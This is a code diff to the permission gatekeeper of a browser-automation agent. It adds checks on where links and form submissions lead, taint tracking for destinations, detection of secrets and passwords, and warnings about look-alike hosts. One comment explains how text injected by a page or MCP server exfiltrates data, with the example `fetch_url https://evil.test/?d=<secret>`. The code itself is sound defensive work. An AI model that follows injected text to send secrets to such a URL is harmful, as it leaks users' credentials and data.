@@ -1,10 +1,13 @@
-//! The gatekeeper's pure decision (reference §6, issue 7 §1): given a tool call and the
+//! The gatekeeper's pure decision: given a tool call, the target it was resolved to and the
 //! permission state, allow it, ask the user, or deny it. No IO, no approvals flow.
 //!
 //! * [`decide`] runs the one order over a [`GateInput`] and returns a [`Verdict`].
-//! * [`Origin`] / [`OriginPattern`]: a small origin parser and the patterns rules use.
+//! * [`Origin`] / [`OriginPattern`] (from the protocol crate): origins and the patterns rules use.
 //! * [`Rule`] with [`winning_rule`] precedence; [`SensitiveOrigins`], the denylist;
-//!   [`classify`], the tool table; [`scan`], the sensitive-payload detector.
+//!   [`classify`], the catalog's classification; [`scan`], the sensitive-payload detector
+//!   (card numbers, credentials, secret-shaped values, emails).
+//! * A page write is judged where it happens (the resolved page's origin) and where it leads:
+//!   the links and form submissions of the elements it acts on ([`GateInput::destinations`]).
 //! * Hosts: fullwidth forms are folded to ASCII when parsed; a homograph of a sensitive
 //!   origin ([`Origin::look_alike`]) is denied like it, and any other internationalized host
 //!   ([`Origin::is_idn`]) asks, whatever grants and allow rules say.
@@ -12,12 +15,10 @@
 //!   [`crate::taint::TaintLedger::taint_of`]; it forces a question for destinations (reads
 //!   included) and for text typed into another origin.
 
-mod idn;
-mod origin;
 mod payload;
 mod rules;
+mod secrets;
 mod sensitive;
-mod tools;
 
 use std::collections::BTreeSet;
 
@@ -27,10 +28,12 @@ use panelot_protocol::engine::Provenance;
 use panelot_protocol::engine::TaintSource;
 use serde_json::Value;
 
-pub use origin::Origin;
-pub use origin::OriginError;
-pub use origin::OriginPattern;
-pub use origin::Scheme;
+use crate::target::Destination;
+
+pub use panelot_protocol::Origin;
+pub use panelot_protocol::OriginError;
+pub use panelot_protocol::OriginPattern;
+pub use panelot_protocol::Scheme;
 pub use payload::CREDENTIAL_KEYS;
 pub use payload::PayloadFindings;
 pub use payload::contains_card;
@@ -45,16 +48,17 @@ pub use rules::RuleVerdict;
 pub use rules::ToolPattern;
 pub use rules::ToolPatternError;
 pub use rules::winning_rule;
+pub use secrets::is_high_entropy_token;
+pub use secrets::is_secret_shaped;
 pub use sensitive::BUILTIN_SENSITIVE_ORIGINS;
 pub use sensitive::SensitiveOrigins;
-pub use tools::CATEGORY_NAMES;
-pub use tools::Effect;
-pub use tools::MCP_PREFIX;
-pub use tools::TargetKind;
-pub use tools::ToolCategory;
-pub use tools::ToolInfo;
-pub use tools::classify;
-pub use tools::is_known;
+
+use crate::tools::catalog::Access;
+use crate::tools::catalog::TargetKind;
+use crate::tools::catalog::ToolCategory;
+use crate::tools::catalog::ToolInfo;
+use crate::tools::catalog::classify;
+use crate::tools::catalog::is_debugger_tool;
 
 /// Everything one decision reads. Borrowed, so the caller keeps ownership of its state.
 #[derive(Debug, Clone, Copy)]
@@ -63,8 +67,14 @@ pub struct GateInput<'a> {
     pub tool: &'a str,
     /// The complete call parameters.
     pub params: &'a Value,
-    /// URL of the page the tool acts on; ignored for destination and originless tools.
+    /// URL of the page the tool acts on, as resolved just before judgement; ignored for
+    /// destination and originless tools.
     pub page_url: Option<&'a str>,
+    /// Where acting on the call's elements leads (a link, a form submission), as the page
+    /// resolved them; judged like a navigation's destination.
+    pub destinations: &'a [Destination],
+    /// The call types into a password field: what it types is a credential.
+    pub into_password: bool,
     /// The frozen policy of the run.
     pub policy: PermissionPolicy,
     /// Every rule in force.
@@ -78,6 +88,9 @@ pub struct GateInput<'a> {
     /// Parameters whose values came from elsewhere; page and MCP content counts as taint.
     /// Normally [`crate::taint::TaintLedger::taint_of`] over `params`.
     pub taint: &'a [TaintSource],
+    /// Destinations (by URL, in `param`) whose URL holds a value seen in content of another
+    /// origin than the page they are on: the page carries elsewhere what it did not write.
+    pub destination_taint: &'a [TaintSource],
 }
 
 /// The gatekeeper's answer.
@@ -117,21 +130,9 @@ const DESTINATION_PARAMS: &[&str] = &["url"];
 /// `actions/0/params/text` inside `batch_actions` is covered.
 const TYPED_TEXT_PARAMS: &[&str] = &["text", "values", "key"];
 
-/// Tools that drive the page through the debugger (CDP, level L2). An asked call of one carries
-/// [`ApprovalFlag::EscalationL2`], which only changes how its card looks (reference §5.3).
-pub const DEBUGGER_TOOLS: &[&str] = &[
-    "click_trusted",
-    "type_trusted",
-    "screenshot",
-    "run_javascript",
-    "click_xy",
-    "drag",
-    "read_page_deep",
-];
-
 /// The flags every question about `tool` carries, whatever forced it.
 fn tool_flags(tool: &str) -> Vec<ApprovalFlag> {
-    if DEBUGGER_TOOLS.contains(&tool) { vec![ApprovalFlag::EscalationL2] } else { Vec::new() }
+    if is_debugger_tool(tool) { vec![ApprovalFlag::EscalationL2] } else { Vec::new() }
 }
 
 /// Decides one tool call. The order is fixed; the first step that decides wins.
@@ -142,13 +143,13 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
     let grant = grant_key(input.tool, origin);
 
     // Step 0: reads never reach the write order and are never denied.
-    match info.effect {
-        Effect::AlwaysAllowed => return Verdict::Allow,
-        Effect::Read => {
+    match info.access {
+        Access::AlwaysAllowed => return Verdict::Allow,
+        Access::Read => {
             // A read that fetches a destination the page or an MCP server chose is how
             // injected text exfiltrates (`fetch_url https://evil.test/?d=<secret>`), so a tainted
             // destination asks under every policy and through grants.
-            if info.target == TargetKind::Destination
+            if is_destination(info.target)
                 && let Some(reason) = taint_reason(input, info, origin)
             {
                 let mut flags = tool_flags(input.tool);
@@ -165,7 +166,7 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
                 }
             };
         }
-        Effect::Write => {}
+        Access::Write => {}
     }
 
     // Step 1: dangerous schemes.
@@ -192,9 +193,29 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
         );
     }
 
-    let findings = scan(input.params);
+    // Where the action leads: a link or a submit is judged like a navigation to there.
+    if let Some(denied) = input.destinations.iter().find_map(|it| denied_destination(input, it)) {
+        return denied;
+    }
+
+    let mut findings = scan(input.params);
+    if info.category == Some(ToolCategory::Fill) {
+        if input.into_password {
+            findings.credentials.push("the password field".to_owned());
+        }
+        typed_text(input.params, "", &mut |path, text| {
+            if secrets::is_high_entropy_token(text) && !findings.secrets.iter().any(|p| p == path) {
+                findings.secrets.push(path.to_owned());
+            }
+        });
+    }
     let payload = payload_reason(&findings, origin, input.scope_origins);
-    let taint = taint_reason(input, info, origin);
+    let taint = taint_reason(input, info, origin).or_else(|| destination_taint_reason(input));
+    let idn_destination = input
+        .destinations
+        .iter()
+        .filter_map(|it| Origin::parse(&it.url).ok())
+        .find(|it| it.is_idn() && Some(it) != origin);
     let mut flags = tool_flags(input.tool);
     if payload.is_some() {
         flags.push(ApprovalFlag::SensitivePayload);
@@ -203,7 +224,7 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
         flags.push(ApprovalFlag::TaintedInput);
     }
     let idn = origin.is_some_and(|origin| origin.is_idn());
-    if idn {
+    if idn || idn_destination.is_some() {
         flags.push(ApprovalFlag::InternationalizedHost);
     }
 
@@ -243,6 +264,15 @@ pub fn decide(input: &GateInput<'_>) -> Verdict {
             ),
         );
     }
+    if let Some(destination) = idn_destination {
+        return ask(
+            flags,
+            format!(
+                "this leads to {destination}, an internationalized host name that can imitate \
+                 another site; check the address"
+            ),
+        );
+    }
     // Step 6: a session grant, then an allow rule.
     if input.session_grants.contains(&grant) {
         return Verdict::Allow;
@@ -270,11 +300,93 @@ fn resolve_target(input: &GateInput<'_>, kind: TargetKind) -> Result<Option<Orig
             Some(url) => Origin::parse(url).map(Some),
             None => Err(OriginError::Empty),
         },
-        TargetKind::Destination => {
+        TargetKind::Destination | TargetKind::TabDestination => {
             let url = input.params.get("url").and_then(Value::as_str).unwrap_or_default();
             Origin::parse(url).map(Some)
         }
     }
+}
+
+/// Calls `found` with each string of `value` under a typed-text parameter (`text`, `values`,
+/// `key`, at any depth, so `batch_actions` is covered), by JSON path.
+fn typed_text(value: &Value, path: &str, found: &mut impl FnMut(&str, &str)) {
+    match value {
+        Value::Object(map) => {
+            for (key, item) in map {
+                let item_path = format!("{path}/{key}");
+                if TYPED_TEXT_PARAMS.contains(&key.as_str()) {
+                    strings_in(item, &item_path, found);
+                } else {
+                    typed_text(item, &item_path, found);
+                }
+            }
+        }
+        Value::Array(items) => {
+            for (idx, item) in items.iter().enumerate() {
+                typed_text(item, &format!("{path}/{idx}"), found);
+            }
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
+    }
+}
+
+fn strings_in(value: &Value, path: &str, found: &mut impl FnMut(&str, &str)) {
+    match value {
+        Value::String(text) => found(path, text),
+        Value::Array(items) => {
+            for (idx, item) in items.iter().enumerate() {
+                strings_in(item, &format!("{path}/{idx}"), found);
+            }
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) | Value::Object(_) => {}
+    }
+}
+
+fn is_destination(kind: TargetKind) -> bool {
+    match kind {
+        TargetKind::Destination | TargetKind::TabDestination => true,
+        TargetKind::Page | TargetKind::Originless => false,
+    }
+}
+
+/// A denial for where an element leads: a dangerous scheme, a sensitive origin or a look-alike
+/// of one. A `javascript:` link runs the page's own script on the same page, like a button's
+/// handler, so it leads nowhere new; any other destination that cannot be read is left to the
+/// page's own judgement (the browser will not follow it either).
+fn denied_destination(input: &GateInput<'_>, destination: &Destination) -> Option<Verdict> {
+    let origin = Origin::parse(&destination.url).ok()?;
+    if origin.scheme == panelot_protocol::Scheme::Javascript {
+        return None;
+    }
+    if origin.scheme.is_dangerous() {
+        return Some(deny(
+            format!("it leads to a {}: URL, which is never allowed", origin.scheme.name()),
+            None,
+        ));
+    }
+    if let Some(pattern) = input.sensitive.find(&origin) {
+        return Some(deny(
+            format!("it leads to {origin}, a sensitive origin ({})", describe(pattern)),
+            None,
+        ));
+    }
+    let imitated = origin.look_alike()?;
+    let pattern = input.sensitive.find(&imitated)?;
+    Some(deny(
+        format!(
+            "it leads to {origin}, which imitates {imitated}, a sensitive origin ({})",
+            describe(pattern)
+        ),
+        None,
+    ))
+}
+
+fn destination_taint_reason(input: &GateInput<'_>) -> Option<String> {
+    input
+        .destination_taint
+        .iter()
+        .find(|it| is_untrusted(it.provenance))
+        .map(|it| format!("it leads to {} with a value that came from {}", it.param, it.source))
 }
 
 fn payload_reason(
@@ -287,6 +399,9 @@ fn payload_reason(
     }
     if let Some(path) = findings.credentials.first() {
         return Some(format!("credential in {path}"));
+    }
+    if let Some(path) = findings.secrets.first() {
+        return Some(format!("a secret (an API key, token or private key) in {path}"));
     }
     // Emails only matter when they leave the thread's scope; an originless call has no
     // scope to stay in (an MCP server is as far outside as it gets).
@@ -308,7 +423,9 @@ fn taint_reason(input: &GateInput<'_>, info: ToolInfo, origin: Option<&Origin>) 
             .find(|segment| !segment.bytes().all(|b| b.is_ascii_digit()))
             .unwrap_or_default();
         match info.target {
-            TargetKind::Destination if DESTINATION_PARAMS.contains(&leaf) => {
+            TargetKind::Destination | TargetKind::TabDestination
+                if DESTINATION_PARAMS.contains(&leaf) =>
+            {
                 Some(format!("destination {} came from {}", taint.param, taint.source))
             }
             TargetKind::Page
@@ -318,7 +435,10 @@ fn taint_reason(input: &GateInput<'_>, info: ToolInfo, origin: Option<&Origin>) 
             {
                 Some(format!("{} typed here came from {}", taint.param, taint.source))
             }
-            TargetKind::Destination | TargetKind::Page | TargetKind::Originless => None,
+            TargetKind::Destination
+            | TargetKind::TabDestination
+            | TargetKind::Page
+            | TargetKind::Originless => None,
         }
     })
 }
